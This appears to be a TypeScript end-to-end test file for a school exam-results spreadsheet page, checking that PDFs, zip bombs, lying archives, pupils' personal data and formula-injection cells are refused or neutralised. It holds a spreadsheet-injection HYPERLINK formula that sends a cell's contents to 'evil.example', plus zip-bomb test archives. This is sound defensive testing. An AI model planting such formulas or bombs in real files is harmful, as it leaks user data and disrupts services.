/**
 * @jest-environment node
 *
 * Files that do no good, dropped on the real page: what is no table, what is too large, archives that lie, people's
 * names, cells that begin like a formula. The page stays alive and the server gets nothing that it must not have.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { LOAD } from '../../src/messages/dialog-load';
import { archive } from '../files/archives';
import { TODAY } from '../support/book';
import { PERSON_HEADINGS, People, partsOf, writeList } from '../support/list-files';
import { previewOf } from '../support/page-tour';
import { PageOfBook, ServedPage } from '../support/serve-page';
import { describeWith } from '../support/shared';

const TEMPLATE = resolve(__dirname, '../../dist/template.xlsx');
const MEGABYTE = 1024 * 1024;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Школа")';

describeWith('page', 'files that do no good', () => {
  const folder = mkdtempSync(join(tmpdir(), 'whole-way-files-'));
  let served: ServedPage;
  let window: PageOfBook;
  const write = (name: string, content: string | Uint8Array): string => {
    const path = join(folder, name);
    writeFileSync(path, content);
    return path;
  };

  beforeAll(async () => {
    served = await ServedPage.start(TEMPLATE, 'Округ', TODAY);
    window = await served.open();
  }, 60_000);

  afterEach(() => expect(served.foreign).toEqual([]));
  afterAll(async () => {
    await served.stop();
    rmSync(folder, { recursive: true, force: true });
  });

  test('documents and bombs are refused with a sentence each, and the good file beside them is read', async () => {
    const zeros = new Uint8Array(20 * MEGABYTE);
    const frame = await previewOf(window, [
      write('отчёт.pdf', '%PDF-1.7\n…'),
      write(
        'приказ.doc',
        Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Array(600).fill(0)),
      ),
      write('честный.zip', archive({ name: 'a.csv', content: zeros }, { name: 'b.csv', content: 'x' })),
      write('лживый.zip', archive({ name: 'liar.csv', content: zeros, saidSize: 1000 })),
      write(
        'ВПР 2021 МА 4.csv',
        'login;mo;class;code;variant;total;journal_mark\nedu900001;МО-1;А;40001;1;12;4\n',
      ),
    ]);
    const text = await frame.innerText('.content');
    expect(text).toContain('«отчёт.pdf»: это PDF');
    expect(text).toMatch(/«приказ\.doc»: это (книга старого формата|документ)/);
    expect(text).toMatch(/«честный\.zip»: в распакованном виде архив слишком велик/);
    expect(text).toMatch(/«лживый\.zip\/liar\.csv»: файл в архиве повреждён/);
    expect(text).toContain('ВПР 2021, Математика, 4 класс');
    await window.closeDialog();
  }, 60_000);

  test('a protocol of 50 MB is read to its preview, and the page stays alive', async () => {
    const lines = ['login;mo;class;code;variant;total;journal_mark'];
    for (let i = 0; i < 50_000; i++)
      lines.push(`edu${900_001 + (i % 40)};МО-1;А;${40_001 + Math.floor(i / 40)};1;${i % 21};${2 + (i % 4)}`);
    const [head, ...rows] = lines;
    const block = rows.join('\n');
    const times = Math.ceil((50 * MEGABYTE) / Buffer.byteLength(block));
    const path = write(
      'ВПР 2021 МА 4 большой.csv',
      [head, ...new Array<string>(times).fill(block)].join('\n'),
    );
    const frame = await previewOf(window, [path]);
    const text = await frame.innerText('.content');
    expect(text).toMatch(/ОО – 40, участников|слишком велик/);
    await window.closeDialog();
    await window.goTo('C7');
    expect(await window.page.getByLabel('Адрес ячейки').inputValue()).toBe('C7');
  }, 120_000);

  test('no name, document or code of a pupil is in any request; formulas of a file arrive as text', async () => {
    const people = new People();
    const results = Array.from({ length: 12 }, (_, i) => [10 + i, 3 + (i % 3)]);
    const rows = people.rows('900001', 1, results);
    const list = await writeList(join(folder, 'ОГЭ 2024 Математика 9 класс.xlsx'), [
      [...PERSON_HEADINGS, 'Первичный балл', 'Оценка'],
      ...rows,
    ]);
    const marks = await writeList(join(folder, 'Ф3.xlsx'), [
      ['ВПР 2021 Математика 4 класс'],
      ['Группы участников', 'Кол-во ОО', 'Кол-во участников', '2', '3', '4', '5'],
      [`${FORMULA} (edu900001)`, '', 20, 10, 40, 30, 20],
    ]);
    served.sent.length = 0;
    const frame = await previewOf(window, [list, marks]);
    await frame.click('.buttons .main');
    await frame.waitForSelector(`h1:text-is("${LOAD.done}")`);
    await window.closeDialog();

    const bodies = served.sent.map(({ body }) => body).join('\n');
    expect(bodies).toContain('900001');
    for (const word of rows.flatMap((row) => row.slice(3, 9)))
      expect([word, bodies.includes(String(word))]).toEqual([word, false]);

    await window.tab('Школы');
    await window.page.getByRole('gridcell', { name: '=HYPERLINK' }).first().waitFor();
    await window.page.keyboard.press('Control+s');
    await window.page.getByText(/^Сохранено/).waitFor();
    expect(people.foundIn(served.path)).toEqual([]);
    const parts = partsOf(served.path);
    expect(parts.some(([, text]) => text.includes('evil.example'))).toBe(true);
    for (const [name, text] of parts) {
      expect([name, /<f[^>]*>[^<]*evil\.example/.test(text)]).toEqual([name, false]);
      expect([name, name.endsWith('.rels') && text.includes('evil.example')]).toEqual([name, false]);
    }
    expect(readFileSync(served.path).length).toBeGreaterThan(0);
  }, 60_000);
});
